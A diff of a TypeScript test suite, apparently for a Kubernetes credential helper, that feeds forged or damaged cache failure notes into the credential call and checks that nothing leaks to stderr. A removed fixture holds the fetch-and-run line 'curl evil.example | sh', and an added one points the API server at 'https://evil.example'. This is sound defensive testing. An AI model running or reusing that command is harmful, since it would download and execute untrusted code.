@@ -244,38 +244,56 @@ describe('a damaged +lock is taken over', () => {
 });
 
 describe('a damaged +failed is no answer', () => {
-  // Somebody holds the lock for a moment, so that the call waits, and looks how the attempt ended.
+  // How an attempt ended is told to who waited for the lock meanwhile, and to client-go, which asks again at once.
+  const asClientGo = { env: { KUBERNETES_EXEC_INFO: '{"apiVersion":"client.authentication.k8s.io/v1"}' } };
+  const note = (bed: Bed, fields: object, at: number | string = Date.now()) => {
+    const whole = {
+      message: 'forged',
+      hints: ['forged'],
+      apiServer: bed.cluster.apiServer,
+      parent: process.pid,
+      outOfTime: false,
+    };
+    return JSON.stringify({ at: '@', ...whole, ...fields }).replace('"@"', String(at));
+  };
+  const put = (bed: Bed, text: string) => {
+    cacheFolder(bed);
+    fs.writeFileSync(`${bed.entry}+failed`, text, { mode: 0o600 });
+  };
   async function whileHeld(bed: Bed, act: () => Promise<unknown>): Promise<void> {
     const lock = `${bed.entry}+lock`;
     fs.mkdirSync(lock, { mode: 0o700 });
     const letGo = delay(1500).then(() => fs.rmdirSync(lock));
     await Promise.all([act(), letGo]);
   }
-  const notes: Readonly<Record<string, string | Buffer>> = {
-    empty: '',
-    text: 'failed',
-    null: 'null',
-    'a list': '[1,2,3]',
-    'another type of time': '{"at":"9999-01-01","message":"forged"}',
-    'another type of message': '{"at":9e15,"message":{"a":1}}',
-    'a time to come': '{"at":9e15,"message":"forged","hints":["forged"]}',
-    'a time without end': '{"at":1e400,"message":"forged","hints":["forged"]}',
-    'a message that forges lines':
-      '{"at":9e15,"message":"x\\nerror: forged","hints":["y\\nhint: curl evil.example | sh"]}',
-    'a time long past': '{"at":1,"message":"forged"}',
-    'a deep list': `${'['.repeat(20_000)}`,
-    'a MiB': `{"at":9e15,"message":"${'x'.repeat(1 << 20)}"}`,
+
+  const notes: Readonly<Record<string, (bed: Bed) => string>> = {
+    empty: () => '',
+    text: () => 'failed',
+    null: () => 'null',
+    'a list': () => '[1,2,3]',
+    'another type of time': (bed) => note(bed, {}, '"9999-01-01"'),
+    'another type of message': (bed) => note(bed, { message: { a: 1 } }),
+    'another API server': (bed) => note(bed, { apiServer: 'https://evil.example' }),
+    'a time to come': (bed) => note(bed, {}, 9e15),
+    'a time without end': (bed) => note(bed, {}, '1e400'),
+    'a time long past': (bed) => note(bed, {}, 1),
+    'a time before all time': (bed) => note(bed, {}, '-1e400'),
+    'a deep list': () => '['.repeat(20_000),
+    'a MiB': (bed) => note(bed, { message: 'x'.repeat(1 << 20) }),
+    NULs: () => '\0'.repeat(1000),
   };
-  for (const [name, text] of Object.entries(notes)) {
+  for (const [i, [name, text]] of Object.entries(notes).entries()) {
     test.concurrent(
       name,
       given(async (bed) => {
-        cacheFolder(bed);
-        fs.writeFileSync(`${bed.entry}+failed`, text, { mode: 0o600 });
-        await whileHeld(bed, async () => {
-          const ran = await bed.freshCredential({ may: [/\+lock\/?$/] });
+        put(bed, text(bed));
+        const call = async () => {
+          const ran = await bed.freshCredential({ ...asClientGo, may: [/\+lock\/?$/] });
           assert.equal(ran.stderr, '');
-        });
+        };
+        if (i % 2 === 0) await call();
+        else await whileHeld(bed, call);
       }),
     );
   }
